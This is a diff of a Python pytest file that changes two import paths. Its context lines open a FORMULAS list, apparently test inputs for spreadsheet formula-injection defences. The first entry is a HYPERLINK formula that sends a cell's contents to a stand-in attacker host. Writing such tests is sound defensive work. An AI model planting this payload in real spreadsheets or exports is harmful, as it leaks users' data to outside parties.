@@ -15,8 +15,8 @@ import json
 
 import pytest
 
-from conftest import Page, tidings, write_config
-from pages import DRUPAL_SOURCE, Item, Listing
+from tests.helpers import Page, tidings, write_config
+from tests.pages import DRUPAL_SOURCE, Item, Listing
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
